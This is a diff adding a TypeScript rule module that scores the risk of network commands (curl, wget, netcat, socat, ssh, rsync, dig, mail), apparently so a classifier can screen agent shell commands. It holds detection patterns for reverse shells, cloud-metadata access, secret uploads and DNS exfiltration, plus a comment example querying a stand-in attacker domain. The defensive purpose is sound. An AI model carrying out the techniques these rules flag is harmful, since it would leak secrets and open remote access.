@@ -1,0 +1,435 @@
+import { RISK } from '../risk-scale.js';
+import { isCredentialPath, secretLiteralKind, urlCarriesSecret } from '../secret-source.js';
+import type { CommandRule, CommandScope } from '../shell-command.js';
+import { classifyVerb } from './cli-verb.js';
+import { unbundleShortOptions } from './option-parse.js';
+
+/**
+ * Network clients. Each registers what it sends (a sink) and what it reads (a source) for the
+ * flow analysis, and judges its own arguments: secrets in URLs, raw IP addresses and cloud
+ * metadata endpoints, HTTP methods that delete, reverse and bind shells.
+ */
+const METADATA_HOSTS =
+  /^(169\.254\.169\.254|metadata\.google\.internal|metadata|100\.100\.100\.200|fd00:ec2::254|\[fd00:ec2::254\])$/;
+
+function hostOf(url: string): string | undefined {
+  const match = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(\[[^\]]+\]|[^:/?#\s]+)/i.exec(url);
+  return match?.[1]?.toLowerCase();
+}
+
+function isRawPublicIp(host: string): boolean {
+  if (!/^\d{1,3}(\.\d{1,3}){3}$/.test(host)) return false;
+  return !/^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.)/.test(host);
+}
+
+function judgeUrl(scope: CommandScope, url: string, sending: boolean): void {
+  const host = hostOf(url);
+  // A URL built from command output carries that output to the server, like a request body.
+  if (/\$\(|`/.test(url)) scope.networkSink(`url-from-data:${host ?? ''}`);
+  if (urlCarriesSecret(url)) {
+    scope.networkSink(`url:${host ?? url}`);
+    scope.add({ code: `net.secret-in-url:${host ?? ''}`, exfil: RISK.denyHigh, onTask: 0.2 });
+  }
+  if (host === undefined) return;
+  if (METADATA_HOSTS.test(host)) {
+    scope.secretSource(`cloud-metadata:${host}`);
+    scope.add({ code: `net.cloud-metadata:${host}`, exfil: RISK.deny, onTask: 0.05 });
+  } else if (isRawPublicIp(host)) {
+    scope.add({ code: `net.raw-ip:${host}`, exfil: sending ? RISK.askHigh : RISK.askLow, onTask: 0.4 });
+  }
+}
+
+const CURL_WITH_VALUE = new Set([
+  '-d',
+  '--data',
+  '--data-raw',
+  '--data-binary',
+  '--data-urlencode',
+  '--data-ascii',
+  '--json',
+  '-F',
+  '--form',
+  '--form-string',
+  '-T',
+  '--upload-file',
+  '-X',
+  '--request',
+  '-H',
+  '--header',
+  '-u',
+  '--user',
+  '-o',
+  '--output',
+  '-A',
+  '--user-agent',
+  '-e',
+  '--referer',
+  '-b',
+  '--cookie',
+  '-c',
+  '--cookie-jar',
+  '-K',
+  '--config',
+  '--url',
+  '-x',
+  '--proxy',
+  '-m',
+  '--max-time',
+  '--connect-timeout',
+  '-w',
+  '--write-out',
+  '-E',
+  '--cert',
+  '--key',
+  '--cacert',
+  '-r',
+  '--range',
+  '--retry',
+  '-C',
+  '--continue-at',
+  '-z',
+  '--time-cond',
+  '--resolve',
+  '-U',
+  '--proxy-user',
+  '--oauth2-bearer',
+  '--limit-rate',
+  '-Y',
+  '-y',
+  '--interface',
+  '--dns-servers',
+]);
+const CURL_SENDS = /^(-d|--data.*|--json|-F|--form.*|-T|--upload-file)$/;
+
+const curl: CommandRule = (scope) => {
+  const args = unbundleShortOptions(scope.command.args, (flag) => CURL_WITH_VALUE.has(flag));
+  let method: string | undefined;
+  let sends = false;
+  const urls: string[] = [];
+  for (let index = 0; index < args.length; index += 1) {
+    const arg = args[index]!;
+    const [flag, inline] =
+      arg.startsWith('--') && arg.includes('=')
+        ? [arg.slice(0, arg.indexOf('=')), arg.slice(arg.indexOf('=') + 1)]
+        : [arg, undefined];
+    const shortInline = /^-[dFTXHo]./.test(arg) ? arg.slice(2) : undefined;
+    const name = shortInline !== undefined ? arg.slice(0, 2) : flag;
+    if (CURL_WITH_VALUE.has(name)) {
+      const value = inline ?? shortInline ?? args[index + 1] ?? '';
+      if (inline === undefined && shortInline === undefined) index += 1;
+      if (name === '-X' || name === '--request') method = value.toUpperCase();
+      else if (CURL_SENDS.test(name)) {
+        sends = true;
+        judgeSentData(scope, value, name);
+      } else if (name === '--url') urls.push(value);
+      else if (name === '-o' || name === '--output') judgeDownloadTarget(scope, value);
+      else if (name === '-u' || name === '--user' || name === '-H' || name === '--header') {
+        if (secretLiteralKind(value) !== undefined)
+          scope.add({ code: 'net.literal-credential-in-arguments', exfil: RISK.askLow });
+      }
+      continue;
+    }
+    if (!arg.startsWith('-')) urls.push(arg);
+  }
+  if (sends) scope.networkSink(`curl:${hostOf(urls[0] ?? '') ?? 'unknown'}`);
+  for (const url of urls) judgeUrl(scope, url, sends);
+  judgeHttpMethod(scope, method ?? (sends ? 'POST' : 'GET'), urls);
+};
+
+function judgeSentData(scope: CommandScope, value: string, flag: string): void {
+  const file =
+    flag === '-T' || flag === '--upload-file'
+      ? value
+      : value.startsWith('@')
+        ? value.slice(1)
+        : (/^[^=]+=@(.+)$/.exec(value)?.[1] ?? /^[^=]+=<(.+)$/.exec(value)?.[1]);
+  if (file !== undefined && file !== '-' && file !== '') {
+    const path = scope.path(file);
+    if (isCredentialPath(path.normalised) || isCredentialPath(file)) {
+      scope.secretSource(path.normalised);
+      scope.add({ code: `secret.read:${path.normalised}`, exfil: RISK.ask, onTask: 0.1 });
+    } else {
+      scope.add({
+        code: `net.upload-file:${path.normalised}`,
+        exfil: path.scope === 'workspace' ? RISK.askLow : RISK.ask,
+        onTask: 0.4,
+      });
+    }
+    return;
+  }
+  const kind = secretLiteralKind(value);
+  if (kind !== undefined) {
+    scope.secretSource(`literal:${kind}`);
+    scope.add({ code: `net.sends-secret-literal:${kind}`, exfil: RISK.denyHigh, onTask: 0.05 });
+  }
+}
+
+function judgeDownloadTarget(scope: CommandScope, target: string): void {
+  if (target === '-' || target === '/dev/null') return;
+  const path = scope.path(target);
+  if (path.scope === 'system' || path.scope === 'home' || path.scope === 'unknown')
+    scope.add({
+      code: `net.download-outside-workspace:${path.normalised}`,
+      destructive: path.scope === 'system' ? RISK.deny : RISK.ask,
+      onTask: 0.4,
+    });
+}
+
+const LOCAL_HOST = /^(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?)$/i;
+
+function judgeHttpMethod(scope: CommandScope, method: string, urls: string[]): void {
+  const pathVerb = urls.flatMap((url) =>
+    url
+      .replace(/^[a-z]+:\/\/[^/]*/i, '')
+      .split(/[/?#]/)
+      .map(classifyVerb),
+  );
+  if (method === 'DELETE') {
+    scope.add({
+      code: `net.http-delete:${hostOf(urls[0] ?? '') ?? ''}`,
+      destructive: RISK.deny,
+      onTask: 0.2,
+    });
+  } else if (method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS') {
+    if (pathVerb.includes('destructive'))
+      scope.add({
+        code: `net.http-${method.toLowerCase()}-delete-endpoint`,
+        destructive: RISK.deny,
+        onTask: 0.2,
+      });
+    else {
+      // A write to the developer's own service on this machine is how its API is tried out.
+      const local = urls.length > 0 && urls.every((url) => LOCAL_HOST.test(hostOf(url) ?? ''));
+      scope.add({
+        code: `net.http-${method.toLowerCase()}`,
+        destructive: RISK.low,
+        onTask: local ? 0.85 : 0.6,
+      });
+    }
+  } else scope.add({ code: `net.http-get`, onTask: 0.85 });
+}
+
+/** wget's short options that take a value (`-qO- URL`, `-qO /etc/x URL`). */
+const WGET_SHORT_WITH_VALUE = new Set([
+  '-O',
+  '-P',
+  '-o',
+  '-a',
+  '-e',
+  '-i',
+  '-U',
+  '-t',
+  '-T',
+  '-w',
+  '-Q',
+  '-l',
+  '-A',
+  '-R',
+  '-D',
+  '-I',
+  '-X',
+  '-B',
+]);
+
+const wget: CommandRule = (scope) => {
+  const args = unbundleShortOptions(scope.command.args, (flag) => WGET_SHORT_WITH_VALUE.has(flag));
+  let method = 'GET';
+  const urls: string[] = [];
+  for (let index = 0; index < args.length; index += 1) {
+    const arg = args[index]!;
+    const [flag, inline] =
+      arg.includes('=') && arg.startsWith('--')
+        ? [arg.slice(0, arg.indexOf('=')), arg.slice(arg.indexOf('=') + 1)]
+        : [arg, undefined];
+    const value = () => {
+      if (inline !== undefined) return inline;
+      index += 1;
+      return args[index] ?? '';
+    };
+    if (flag === '--post-data' || flag === '--body-data') {
+      method = method === 'GET' ? 'POST' : method;
+      scope.networkSink('wget');
+      judgeSentData(scope, value(), '--data');
+    } else if (flag === '--post-file' || flag === '--body-file') {
+      method = method === 'GET' ? 'POST' : method;
+      scope.networkSink('wget');
+      judgeSentData(scope, value(), '-T');
+    } else if (flag === '--method') method = value().toUpperCase();
+    else if (flag === '-O' || flag === '--output-document') judgeDownloadTarget(scope, value());
+    else if (flag === '-P' || flag === '--directory-prefix') judgeDownloadTarget(scope, `${value()}/x`);
+    else if (!arg.startsWith('-')) urls.push(arg);
+  }
+  for (const url of urls) judgeUrl(scope, url, method !== 'GET');
+  judgeHttpMethod(scope, method, urls);
+};
+
+const netcat: CommandRule = (scope) => {
+  const args = scope.command.args;
+  const program = scope.command.program;
+  if (
+    args.some(
+      (arg) =>
+        /^-[a-zA-Z]*[ec]$/.test(arg) || arg === '--exec' || arg === '--sh-exec' || arg === '--lua-exec',
+    )
+  ) {
+    scope.networkSink(program);
+    scope.add({
+      code: `net.reverse-shell:${program}-exec`,
+      exfil: RISK.certain,
+      destructive: RISK.ask,
+      onTask: 0.02,
+    });
+    return;
+  }
+  if (args.some((arg) => /^-[a-zA-Z]*z/.test(arg))) {
+    scope.add({ code: `net.port-scan:${program}`, onTask: 0.5 });
+    return;
+  }
+  const listens = args.some((arg) => /^-[a-zA-Z]*l/.test(arg) || arg === '--listen');
+  scope.networkSink(program);
+  scope.add({ code: `net.raw-socket:${program}${listens ? '-listen' : ''}`, exfil: RISK.ask, onTask: 0.2 });
+};
+
+const socat: CommandRule = (scope) => {
+  const args = scope.command.args;
+  scope.networkSink('socat');
+  if (args.some((arg) => /^(exec|system):/i.test(arg) || (/,(pty|stderr)/i.test(arg) && /exec:/i.test(arg))))
+    scope.add({
+      code: 'net.reverse-shell:socat-exec',
+      exfil: RISK.certain,
+      destructive: RISK.ask,
+      onTask: 0.02,
+    });
+  else scope.add({ code: 'net.raw-socket:socat', exfil: RISK.ask, onTask: 0.2 });
+};
+
+/** `scp`, `sftp`, `rsync`: an upload when a local path goes to `host:path`. */
+function isRemote(operand: string): boolean {
+  return (
+    (/^[^/\s:]+:/.test(operand) && !/^[a-zA-Z]:\\/.test(operand)) || /^(rsync|sftp|scp):\/\//.test(operand)
+  );
+}
+
+function judgeTransfer(scope: CommandScope, program: string, operands: string[]): void {
+  if (operands.length < 2) return;
+  const destination = operands[operands.length - 1]!;
+  const sources = operands.slice(0, -1);
+  if (!isRemote(destination)) {
+    if (sources.some(isRemote)) scope.add({ code: `net.${program}.download`, onTask: 0.7 });
+    return;
+  }
+  scope.networkSink(`${program}:${destination.split(':')[0]}`);
+  let secret = false;
+  for (const source of sources) {
+    const path = scope.path(source);
+    if (isCredentialPath(path.normalised) || isCredentialPath(source)) {
+      secret = true;
+      scope.secretSource(path.normalised);
+    }
+  }
+  if (!secret)
+    scope.add({ code: `net.${program}.upload:${destination.split(':')[0]}`, exfil: RISK.ask, onTask: 0.4 });
+}
+
+const RSYNC_DELETES =
+  /^--(delete(-before|-during|-after|-delay|-excluded|-missing-args)?|del|remove-source-files|prune-empty-dirs)$/;
+
+const rsync: CommandRule = (scope) => {
+  const args = scope.command.args;
+  const operands = args.filter((arg) => !arg.startsWith('-'));
+  const dryRun = args.some(
+    (arg) =>
+      arg === '-n' || arg === '--dry-run' || arg === '--list-only' || /^-[a-zA-Z]*n[a-zA-Z]*$/.test(arg),
+  );
+  const deleting = args.find((arg) => RSYNC_DELETES.test(arg));
+  if (deleting !== undefined && !dryRun) {
+    const destination = operands[operands.length - 1] ?? '';
+    const path = isRemote(destination) ? undefined : scope.path(destination);
+    const severity = path === undefined || path.scope !== 'temp' ? RISK.deny : RISK.routine;
+    scope.add({ code: `shell.rsync${deleting}:${path?.normalised ?? destination}`, destructive: severity });
+  }
+  if (!dryRun) judgeTransfer(scope, 'rsync', operands);
+};
+
+const scp: CommandRule = (scope) => {
+  const args = scope.command.args;
+  const operands: string[] = [];
+  for (let index = 0; index < args.length; index += 1) {
+    const arg = args[index]!;
+    if (/^-[cFiJloPS]$/.test(arg)) index += 1;
+    else if (!arg.startsWith('-')) operands.push(arg);
+  }
+  judgeTransfer(scope, 'scp', operands);
+};
+
+const ssh: CommandRule = (scope) => {
+  const args = scope.command.args;
+  let index = 0;
+  let tunnel = false;
+  while (index < args.length && args[index]!.startsWith('-')) {
+    const arg = args[index]!;
+    if (/^-[RLDW]$/.test(arg)) tunnel = true;
+    index += /^-[bcDEeFIiJLlmOopQRSWw]$/.test(arg) ? 2 : 1;
+  }
+  const host = args[index];
+  const remote = args.slice(index + 1);
+  if (tunnel) scope.add({ code: 'net.ssh-tunnel', exfil: RISK.ask, onTask: 0.3 });
+  if (host === undefined) return;
+  if (scope.command.input.kind !== 'none') scope.networkSink(`ssh:${host}`);
+  if (remote.length > 0) scope.runShell(remote.join(' '), 'ssh-remote');
+  else scope.add({ code: `net.ssh-session:${host}`, uncertain: true, onTask: 0.4 });
+};
+
+const dnsLookup: CommandRule = (scope) => {
+  const { args, dynamicArgs, program } = scope.command;
+  // `dig $(whoami).attacker.example`: the query name carries data out.
+  if (dynamicArgs.some((dynamic, index) => dynamic && !args[index]!.startsWith('-'))) {
+    scope.networkSink(`dns:${program}`);
+    scope.add({ code: `net.dns-from-data:${program}`, exfil: RISK.denyHigh, onTask: 0.05 });
+  }
+};
+
+const mail: CommandRule = (scope) => {
+  scope.networkSink(scope.command.program);
+  scope.add({ code: `net.mail:${scope.command.program}`, exfil: RISK.ask, onTask: 0.2 });
+};
+
+const fileTransfer: CommandRule = (scope) => {
+  scope.networkSink(scope.command.program);
+  scope.add({ code: `net.transfer:${scope.command.program}`, exfil: RISK.ask, onTask: 0.3 });
+};
+
+export const NETWORK_RULES: ReadonlyMap<string, CommandRule> = new Map<string, CommandRule>([
+  ['curl', curl],
+  ['wget', wget],
+  [
+    'http',
+    (scope) =>
+      judgeHttpMethod(
+        scope,
+        scope.command.args.find((arg) => /^[A-Z]+$/.test(arg)) ?? 'GET',
+        scope.command.args.filter((arg) => /^https?:|^:/.test(arg)),
+      ),
+  ],
+  ['nc', netcat],
+  ['ncat', netcat],
+  ['netcat', netcat],
+  ['socat', socat],
+  ['telnet', fileTransfer],
+  ['ftp', fileTransfer],
+  ['tftp', fileTransfer],
+  ['lftp', fileTransfer],
+  ['sftp', fileTransfer],
+  ['scp', scp],
+  ['rsync', rsync],
+  ['ssh', ssh],
+  ['dig', dnsLookup],
+  ['nslookup', dnsLookup],
+  ['host', dnsLookup],
+  ['drill', dnsLookup],
+  ['ping', dnsLookup],
+  ['mail', mail],
+  ['mailx', mail],
+  ['sendmail', mail],
+  ['mutt', mail],
+]);
